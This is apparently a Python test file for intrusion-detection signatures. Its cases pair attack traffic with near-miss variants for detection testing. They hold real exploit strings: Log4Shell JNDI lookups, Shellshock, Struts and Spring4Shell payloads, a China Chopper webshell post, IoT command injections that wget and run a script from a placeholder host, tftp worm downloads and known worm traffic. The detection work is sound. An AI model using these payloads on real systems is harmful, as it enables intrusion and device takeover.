# SPDX-License-Identifier: GPL-2.0-or-later
"""Scenarios of exploits.rules, devices.rules and spreading.rules."""
import struct

import protocols as proto

from sig_base import (
    DOWN, UP, Case, dns, down, fetched, get, netbios, post, repeated, smb1, smb2_create, smb2_tree,
    tcp, udp, up, wide,
)  # fmt: skip


def nt_trans(total):
    """SMB1 NT Trans that announces TOTAL bytes of data."""
    words = struct.pack("<BBHII", 20, 1, 0, 0x1E, total) + b"\0" * 40
    return up(445, smb1(0xA0, body=words))


def answer(command, status, mid):
    return down(445, smb1(command, status, mid, response=True))


def rpc(call, stub, port=445):
    """A DCE/RPC request of number CALL, in a pipe of SMB where the port is 445."""
    head = b"\x05\0\0\x03\x10\0\0\0" + struct.pack("<HHII", 24 + len(stub), 0, 1, len(stub))
    message = head + struct.pack("<HH", 0, call) + stub
    return message if port == 135 else smb1(0x2F, body=b"\0" * 30 + message)


def bind(interface):
    message = b"\x05\0\x0b\x03\x10\0\0\0" + b"\x48\0\0\0\1\0\0\0" + b"\0" * 12
    return smb1(0x2F, body=b"\0" * 30 + message + bytes.fromhex(interface) + b"\0\0\0\0")


DSSETUP = "6a2819390cb1d0119ba800c04fd92ef5"
SRVSVC = "c84f324b7016d30112785a47bf6ee188"
LEAVES = wide("\\\\host\\..\\..\\AAAA")
STAYS = wide("\\\\host\\share\\..\\AAAA")
LONG = wide("\\\\" + "A" * 300)
SHORT = wide("\\\\HOST\\share" + "A" * 300)


def activation(path):
    return up(135, rpc(4, b"\0" * 40 + path, port=135))


def lsass(interface, call):
    return tcp(
        445, (UP, bind(interface)), (DOWN, smb1(0x2F, response=True)), (UP, rpc(call, b"A" * 700))
    )


def ghost(offset):
    head = b"\xfcSMB" + struct.pack("<IHHI", 100, 1, 0, offset)
    return up(445, netbios(head + b"\x11" * 60))


def rdp(channel):
    head = b"\x03\0\1\0\x02\xf0\x80" + b"\x7f\x65" + b"\0" * 60
    return up(3389, head + b"\x03\xc0\x20\0\1\0\0\0" + channel + b"\0\0\0\xc0")


def header(name, value):
    return get("/", headers={name: value})


JAVA = b"\x30\x81\x90javaClassName\x31\x05\x04\x03foo0\x2c\x04\x0cjavaCodeBase1\x1a\x04\x18%s://192.0.2.9:8000/0\x04\x0bjavaFactory1\x03\x04\x01A"
STRUTS = "%{(#_='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS)}"
OGNL = "/%24%7B%40java.lang.Runtime%40get{}%28%29.exec%28%27id%27%29%7D/"
SHELL = "/autodiscover/autodiscover.json?{}/mapi/nspi/?&Email=autodiscover/autodiscover.json"
SPRING = b"class.module.classLoader.resource%s.context.parent.pipeline.first.pattern=x"
CHOPPER = b"a=%%40eval%%28base64_decode%%28%%24_POST%%5B%s%%5D%%29%%29%%3B&z0=QGlu"
SPRAY = b"<script>var s=unescape('%s%s');while(s.length<9)s+=s;</script>"
RDS = b"<object classid='clsid:BD96C556-65A3-11D0-983A-00C04FC29E%d'></object>x='Adodb.Stream'"
MSDT = b'<script>location.href="ms-msdt:/id %s /skip force /param IT_Launch=$(1)"</script>'

EXPLOITS = [
    Case(9001000, nt_trans(0x103D0), nt_trans(0x3D0)),
    Case(9001001, answer(0x32, 0xC0000002, 81), answer(0x32, 0xC0000002, 65)),
    Case(9001002, answer(0x25, 0xC0000205, 64), answer(0x25, 0xC0000022, 64)),
    Case(9001003, up(445, rpc(31, LEAVES)), up(445, rpc(31, STAYS))),
    Case(9001003, up(445, rpc(32, LEAVES)), up(445, rpc(15, LEAVES)), what="compare"),
    Case(9001005, lsass(DSSETUP, 9), lsass(DSSETUP, 0)),
    Case(9001005, lsass(DSSETUP, 9), lsass(SRVSVC, 9), what="other interface"),
    Case(9001006, activation(LONG), activation(SHORT)),
    Case(9001007, ghost(0xFFFFFFFF), ghost(0x10)),
    Case(9001008, rdp(b"MS_T120\0"), rdp(b"rdpsnd\0\0")),
    Case(
        9001010, header("X-Api-Version", "${jndi:ldap://192.0.2.9:1389/a}"),
        header("X-Api-Version", "${jndi:name}"),
    ),
    Case(
        9001011, header("X-Api-Version", "${${::-j}${::-n}${::-d}${::-i}:${::-r}mi://192.0.2.9/a}"),
        header("X-Api-Version", "${${env:x}ndi:ldap://192.0.2.9/a}"),
    ),
    Case(
        9001011, header("X-Api-Version", "${${lower:j}ndi:ldap://192.0.2.9/a}"),
        header("X-Api-Version", "${${lower:k}ndi:ldap://192.0.2.9/a}"), what="lower",
    ),
    Case(9001012, down(1389, JAVA % b"http"), down(1389, JAVA % b"file")),
    Case(
        9001013, header("Cookie", "() { :;}; /bin/bash -c id"), header("Cookie", "f=() { :;}; id")
    ),
    Case(9001014, header("Content-Type", STRUTS), header("Content-Type", "multipart/form-data; #")),
    Case(9001015, get(OGNL.format("Runtime")), get(OGNL.format("Name"))),
    Case(9001016, get(SHELL.format("@a.example")), get(SHELL.format("a.example"))),
    Case(
        9001017, header("Cookie", "X-BEResource=]@host:444/ecp/a.xml?a~1942062522"),
        header("Cookie", "X-BEResource=host"),
    ),
    Case(9001018, post("/", SPRING % b"s"), post("/", SPRING % b"")),
    Case(9001019, get("/cgi-bin/.%2e/.%2e/bin/sh"), get("/cgi-bin/a/.%2e/b")),
    Case(9001019, get("/vpn/../vpns/cfg/smb.conf"), get("/vpn/vpns/cfg/smb.conf"), what="Citrix"),
    Case(
        9001020, post("/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", b"<?=1?>"),
        post("/vendor/phpunit/phpunit/src/Util/PHP/eval.php", b"1"),
    ),
    Case(
        9001020, get("/?%ADd+allow_url_include%3d1+-d+auto_prepend_file%3dphp://input"),
        get("/?q=allow_url_include%3d1+and+auto_prepend_file"), what="PHP-CGI",
    ),
    Case(9001021, post("/a.php", CHOPPER % b"z0"), post("/a.php", CHOPPER % b"name")),
    Case(
        9001030, fetched(SPRAY % (b"%u9090", b"%u9090"), "text/html"),
        fetched(SPRAY % (b"%u9090", b"%u00e4"), "text/html"),
    ),
    Case(9001031, fetched(RDS % 36, "text/html"), fetched(RDS % 37, "text/html")),
    Case(9001032, fetched(MSDT % b"PCWDiagnostic"), fetched(MSDT % b"NetworkDiagnostics")),
    Case(
        9001033, fetched(b"<a href='.cpl:../../../AppData/Local/Temp/a.inf'>"),
        fetched(b"<a href='.cpl:a.inf'>"),
    ),
]  # fmt: skip

SOAP = b"<u:Upgrade><NewStatusURL>%s</NewStatusURL></u:Upgrade>"
WGET = "wget http://192.0.2.9/m -O /tmp/m;sh /tmp/m"
HNAP = "http://purenetworks.com/HNAP1/GetDeviceSettings%s"

DEVICES = [
    Case(9001100, up(23, b"/bin/busybox ECCHI\r\n"), up(23, b"/bin/busybox wget -V\r\n")),
    Case(9001101, down(23, b"ECCHI: applet not found\r\n"), down(23, b"foo: applet not found\r\n")),
    Case(9001102, up(23, b"root\r\n", b"xc3511\r\n"), up(23, b"root\r\n", b"xc35110\r\n")),
    Case(
        9001103, up(23, b"echo -ne '\\x7F\\x45\\x4c\\x46\\x01' > .d\r\n"),
        up(23, b"echo -ne '\\x7e\\x45\\x4c\\x46\\x01' > .d\r\n"),
    ),
    Case(
        9001104, get("/ping.cgi?ip=1;" + WGET.replace(" ", "%20")),
        get("/search?q=install+wget+http://192.0.2.9/m"),
    ),
    Case(
        9001105, post("/GponForm/diag_Form", b"dest_host=`busybox+wget+http://192.0.2.9/g`;a=0"),
        post("/forum", b"text=use+wget+http://192.0.2.9/g"),
    ),
    Case(
        9001106, post("/ctrlt/DeviceUpgrade_1", SOAP % b"$(/bin/busybox reboot)"),
        post("/ctrlt/DeviceUpgrade_1", SOAP % b"http://192.0.2.9/(1)"),
    ),
    Case(
        9001107, post("/HNAP1/", b"a", headers={"SOAPAction": HNAP % "/`cd /tmp`"}),
        post("/HNAP1/", b"a", headers={"SOAPAction": HNAP % ""}),
    ),
    Case(9001108, get("/shell?cd+/tmp;id"), get("/shell?cdrom=1")),
    Case(
        9001108, get("/setup.cgi?next_file=netgear.cfg&todo=syscmd&cmd=id"),
        get("/setup.cgi?next_file=netgear.cfg&todo=save"), what="Netgear",
    ),
]  # fmt: skip

ASK = b"cmd /k echo open 192.0.2.9 5554 > o&echo user 1 1 >> o &echo %s x.exe >> o &ftp -n -s:o\r\n"
SLAMMER = b"\x04" + b"\x01" * 96 + b"h.dllhel32hkernQhounthickChGet"


def admin(share, name):
    return up(445, smb2_tree("\\\\HOST\\" + share), smb2_create(name))


def remote(share):
    return up(135, wide("cmd.exe /Q /c whoami 1> \\\\127.0.0.1\\%s\\__1700000000.5 2>&1" % share))


def ssh(software, times):
    line = b"SSH-2.0-" + software + b"\r\n"
    return repeated(times, lambda i: tcp(22, (UP, line), source=40000 + i))


def desktop(times):
    ask = b"\x03\0\0\x2a\x25\xe0\0\0\0\0\0Cookie: mstshash=admin\r\n\1\0\x08\0\3\0\0\0"
    return repeated(times, lambda i: tcp(3389, (UP, ask), source=40000 + i))


SPREADING = [
    Case(
        9001200, udp(69, (UP, proto.tftp_read("bling.exe"))),
        udp(69, (UP, proto.tftp_read("exe.cfg"))),
    ),
    Case(
        9001201, up(4444, b"tftp -i 192.0.2.9 GET msblast.exe\r\n"),
        up(4444, b"tftp -i 192.0.2.9 PUT log.txt\r\n"),
    ),
    Case(9001202, up(9996, ASK % b"get"), up(9996, ASK % b"put")),
    Case(9001204, admin("ADMIN$", "a\\b.exe"), admin("data", "a\\b.exe")),
    Case(9001204, admin("C$", "b.exe"), admin("C$", "b.txt"), what="C$"),
    Case(9001205, up(445, smb2_create("PSEXESVC")), up(445, smb2_create("PSEXEC.TXT"))),
    Case(9001206, remote("ADMIN$"), remote("results")),
    Case(
        9001207, up(445, rpc(12, wide("%COMSPEC% /C start a"))),
        up(445, rpc(12, wide("%SYSTEMROOT%\\a"))),
    ),
    Case(9001208, up(445, smb2_create("autorun.inf")), up(445, smb2_create("autorun.txt"))),
    Case(
        9001209, dns("www.iuqerfsodp9ifjaposdfjhgosurijfaewrwergwea.com"),
        dns("www.iuqerfsodp9.com"),
    ),
    Case(9001210, udp(1434, (UP, SLAMMER.ljust(376, b"\1"))), udp(1434, (UP, SLAMMER))),
    Case(9001211, get("/default.ida?" + "N" * 40), get("/default.ida?NN")),
    Case(
        9001211, get("/scripts/..%255c../winnt/system32/cmd.exe?/c+dir"), get("/cmd.exe?c+dir"),
        what="Nimda",
    ),
    Case(9001212, ssh(b"Go", 20), ssh(b"Go", 19)),
    Case(9001212, ssh(b"libssh2_1.4.3", 20), ssh(b"OpenSSH_9.2p1", 20), what="software"),
    Case(9001213, desktop(20), desktop(19)),
]  # fmt: skip

CASES = EXPLOITS + DEVICES + SPREADING
